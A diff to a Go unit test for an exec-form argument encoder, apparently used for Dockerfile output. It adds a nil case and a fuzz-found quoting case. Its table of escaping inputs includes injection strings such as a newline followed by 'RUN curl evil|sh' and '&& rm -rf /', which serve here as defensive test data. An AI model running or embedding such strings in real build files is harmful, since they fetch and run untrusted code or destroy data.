@@ -191,6 +191,9 @@ func TestExecForm(t *testing.T) {
 	if got := execForm([]string{"/app/api", "-listen", ":8080"}); got != `["/app/api", "-listen", ":8080"]` {
 		t.Errorf("execForm reads %s", got)
 	}
+	if got := execForm(nil); got != "[]" {
+		t.Errorf("execForm(nil) = %s", got)
+	}
 	for _, args := range [][]string{
 		nil,
 		{"/app/x"},
@@ -198,6 +201,7 @@ func TestExecForm(t *testing.T) {
 		{"a\nRUN curl evil|sh"},
 		{"x\\", "\\"},
 		{`","`, `\",\"`, `"]`, `[`},
+		{`a",`, `",`, `x`}, // found by FuzzExecForm: `","` inside an encoded argument
 		{"$HOME", "${x:-y}", "<<EOF", "&& rm -rf /"},
 		{"\u2028\u2029\u0085", "<script>&amp;"},
 		{"\x00", "\x1f\x7f"},
